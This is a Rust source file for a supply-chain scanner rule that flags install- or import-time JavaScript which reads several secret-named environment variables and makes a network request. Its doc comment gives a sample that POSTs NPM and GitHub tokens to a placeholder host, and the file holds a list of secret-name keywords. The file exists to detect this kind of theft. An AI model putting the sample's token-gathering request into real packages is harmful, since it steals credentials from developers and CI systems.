//! JS-SECRET-ENV-SEND: install- or import-time JavaScript reads several secret-named
//! environment variables and talks to the network.

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::js::PROCESS_ENV;

use super::common::{context, is_js_network, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds a JavaScript file that runs by itself at install time, or at import time with
/// a top-level request, which reads two or more environment variables named like
/// secrets (`NPM_TOKEN`, `GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`, `*_PASSWORD`,
/// `*_API_KEY`, …) and makes a network request. Critical.
///
/// ## Why is this bad?
/// CI machines and developer shells hold registry, cloud and source-host tokens in the
/// environment; a package that collects several of them while it is being installed
/// and talks to the network is stealing them. An installer that downloads a binary
/// may read one token to raise a rate limit, not a set of unrelated ones.
///
/// ## Example
/// ```javascript
/// const t = { n: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN };
/// require("https").request({ hostname: "example.invalid", method: "POST" }).end(JSON.stringify(t));
/// ```
#[derive(Debug)]
pub struct SecretEnvSend;

const SECRET_PARTS: &[&str] = &[
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "API_KEY",
    "APIKEY",
    "ACCESS_KEY",
    "PRIVATE_KEY",
    "CREDENTIAL",
    "_AUTH",
    "SESSION",
    "WEBHOOK",
];

fn secret_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    !upper.starts_with("NPM_CONFIG_") && SECRET_PARTS.iter().any(|p| upper.contains(p))
}

impl Rule for SecretEnvSend {
    fn id(&self) -> &'static str {
        "JS-SECRET-ENV-SEND"
    }
    fn category(&self) -> Category {
        Category::CREDENTIAL_ACCESS
    }
    fn summary(&self) -> &'static str {
        "reads secret environment variables and talks to the network as it is installed or imported"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            let Some(net) = facts.calls.iter().find(|c| is_js_network(&c.callee)) else {
                continue;
            };
            match context(input, file) {
                RunsAt::Install => {}
                RunsAt::Import if net.scope.is_none() => {}
                _ => continue,
            }
            let mut names: Vec<&str> = Vec::new();
            for call in facts.calls.iter().filter(|c| c.callee == PROCESS_ENV) {
                if let Some(name) = call.args.first().and_then(|a| a.as_str())
                    && secret_name(name)
                    && !names.contains(&name)
                {
                    names.push(name);
                }
            }
            if names.len() < 2 {
                continue;
            }
            out.push(finding(
                self.id(),
                Severity::Critical,
                self.category(),
                format!(
                    "reads {} and sends with `{}` (line {})",
                    names.iter().take(5).copied().collect::<Vec<_>>().join(", "),
                    net.callee,
                    net.line
                ),
                Some(&file.path),
                Some(net.line),
                Some(&net.snippet),
            ));
        }
    }
}
